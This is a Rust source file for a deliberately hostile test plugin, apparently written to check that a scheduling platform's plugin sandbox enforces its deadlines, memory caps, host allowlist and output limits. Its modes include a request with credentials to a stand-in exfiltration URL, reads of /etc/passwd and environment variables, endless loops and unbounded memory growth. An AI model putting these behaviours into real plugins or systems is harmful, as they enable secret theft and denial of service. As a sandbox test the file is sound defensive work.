//! A plugin that misbehaves on purpose. Its `behaviour` setting picks how, when the host
//! calls `handle-webhook` or `pull`:
//! - `loop`: spins forever (the host's deadline stops it);
//! - `allocate`: grows memory without bound (the host's memory cap stops it);
//! - `forbidden-host`: calls a host outside its allowlist (the host denies it);
//! - `huge-output`: answers with `output_mb` megabytes of titles (the host caps it);
//! - `trap`, `panic`: dies;
//! - `read-secrets`: tries to read a file and an environment variable, and reports what
//!   it got (nothing: no filesystem or environment is linked);
//! - anything else: behaves, answering one empty delivery.

use convene_plugin_sdk::{
    BookingStatus, Busy, Calendar, Capability, Change, ConfigField, Delivery, Effect,
    ExternalBooking, Guest, HttpRequest, Outcome, Page, PluginError, PluginManifest, TimeRange,
    WebhookRequest, config, export,
};

struct Hostile;

fn misbehave() -> Result<Delivery, PluginError> {
    match config::get("behaviour").as_deref() {
        Some("loop") => {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        Some("allocate") => {
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            loop {
                hoard.push(vec![1u8; 1 << 20]);
                std::hint::black_box(&hoard);
            }
        }
        Some("forbidden-host") => {
            let answer = convene_plugin_sdk::bindings::convene::plugin::http::send(&HttpRequest {
                method: "GET".into(),
                url: "https://exfiltrate.invalid/steal".into(),
                headers: Vec::new(),
                body: Vec::new(),
                auth: true,
            });
            Err(match answer {
                Ok(response) => PluginError::Internal(format!("reached it: {}", response.status)),
                Err(e) => PluginError::Upstream(e),
            })
        }
        Some("huge-output") => {
            let megabytes: usize = config::get("output_mb")
                .and_then(|v| v.parse().ok())
                .unwrap_or(100);
            let title = "x".repeat(1 << 20);
            let changes = (0..megabytes)
                .map(|i| {
                    Change::BookingUpserted(ExternalBooking {
                        external_id: i.to_string(),
                        title: title.clone(),
                        start_ms: 0,
                        end_ms: 1,
                        host_email: None,
                        attendees: Vec::new(),
                        status: BookingStatus::Accepted,
                        location: None,
                        event_type: None,
                        updated_ms: None,
                    })
                })
                .collect();
            Ok(Delivery {
                event_id: None,
                changes,
            })
        }
        Some("trap") => std::process::abort(),
        Some("panic") => panic!("a plugin bug"),
        Some("read-secrets") => {
            let file = std::fs::read_to_string("/etc/passwd");
            let env = std::env::var("HOME");
            let vars = std::env::vars().count();
            Err(PluginError::Internal(format!(
                "file: {file:?}; HOME: {env:?}; variables: {vars}"
            )))
        }
        _ => Ok(Delivery {
            event_id: None,
            changes: Vec::new(),
        }),
    }
}

impl Guest for Hostile {
    fn manifest() -> PluginManifest {
        PluginManifest {
            id: "hostile".into(),
            name: "Hostile".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            capabilities: vec![Capability::Webhooks, Capability::Pull],
            allowed_hosts: vec!["api.hostile.test".into()],
            oauth: None,
            config: ["behaviour", "output_mb"]
                .into_iter()
                .map(|key| ConfigField {
                    key: key.into(),
                    label: key.into(),
                    required: false,
                    secret: false,
                })
                .collect(),
        }
    }

    fn handle_webhook(_request: WebhookRequest) -> Result<Delivery, PluginError> {
        misbehave()
    }

    fn pull(_cursor: Option<String>) -> Result<Page, PluginError> {
        let delivery = misbehave()?;
        Ok(Page {
            changes: delivery.changes,
            next_cursor: None,
            has_more: false,
        })
    }

    fn busy_times(_range: TimeRange, _calendars: Vec<String>) -> Result<Vec<Busy>, PluginError> {
        Err(PluginError::Unsupported)
    }

    fn calendars() -> Result<Vec<Calendar>, PluginError> {
        Err(PluginError::Unsupported)
    }

    fn apply(_effect: Effect) -> Result<Outcome, PluginError> {
        Err(PluginError::Unsupported)
    }
}

export!(Hostile);
